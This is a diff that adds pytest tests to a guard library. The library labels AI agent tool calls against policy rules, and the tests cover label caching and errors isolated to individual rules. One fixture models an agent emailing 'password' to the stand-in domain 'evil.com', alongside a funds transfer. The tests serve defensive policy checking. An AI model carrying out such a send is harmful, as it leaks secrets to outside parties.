@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import pytest
+
+from governor.errors import ConfigError
 from governor.guard import Reply, ToolCall, policy_from_mapping
 from governor.guard.exchange import Message
 from governor.guard.spec.propositions import MAX_MATCH_CHARS, Vocabulary
@@ -76,3 +79,55 @@ def test_user_propositions_read_the_latest_user_turn_since_the_last_action() -> 
     stale = (*yes, Message("assistant", "done"))
     assert "yes" not in v.labels({}, Reply("ok"), stale)[0]
     assert "yes" not in v.labels({}, Reply("ok"), (Message("user", "no, not yes"),))[0]
+
+
+def alone(v: Vocabulary) -> Vocabulary:
+    """``v`` without the vocabulary it was restricted from (so it labels by itself)."""
+    return Vocabulary(v.props, v.groups, v.trusted)
+
+
+def test_a_rule_reads_the_plain_labels_computed_once_for_its_policy_and_they_are_its_own() -> None:
+    v = vocab()
+    said = (Message("user", "yes, send it"),)
+    actions = [
+        act("send_email", '{"to": {"domain": "evil.com"}, "cc": ["boss"], "body": "password"}'),
+        act("transfer_funds", '{"amount": 70}'),
+        Reply(None, (ToolCall("c1", "send_email", "{}"), ToolCall("c2", "transfer_funds", "{}"))),
+        Reply("plain text"),
+    ]
+    rules = [frozenset({n}) for n in v.names] + [
+        frozenset({"email", "total_over"}),
+        frozenset({"yes", "big", "outside"}),
+        v.names,
+    ]
+    for action in actions:
+        first = v.plain_labels(action, said)
+        assert first is not None and v.plain_labels(action, said) is first  # kept, not redone
+        for names in rules:
+            rule = v.restricted(names)
+            for sums in ({}, {"total_over": 90.0}):
+                own = alone(rule).labels(sums, action, said)
+                assert rule.labels(sums, action, said) == own
+                assert rule.labels(sums, action, said, kept=False) == own
+
+
+def test_a_proposition_that_raises_fails_only_the_rules_that_read_it() -> None:
+    v = vocab()
+    broken = act("send_email", "not json")  # arguments a where condition cannot read
+    assert v.plain_labels(broken, ()) is None
+    email, outside = v.restricted(frozenset({"email"})), v.restricted(frozenset({"outside"}))
+    assert email.labels({}, broken, ())[0] == {"email"}
+    with pytest.raises(ConfigError, match="arguments"):
+        outside.labels({}, broken, ())
+    with pytest.raises(ConfigError, match="arguments"):
+        alone(outside).labels({}, broken, ())
+
+
+def test_labels_of_messages_that_could_change_are_not_kept() -> None:
+    v = vocab()
+    rule = v.restricted(frozenset({"yes"}))
+    said = [Message("user", "no")]
+    assert v.plain_labels(Reply("ok"), said) is None
+    assert "yes" not in rule.labels({}, Reply("ok"), said)[0]
+    said[0] = Message("user", "yes")
+    assert "yes" in rule.labels({}, Reply("ok"), said)[0]
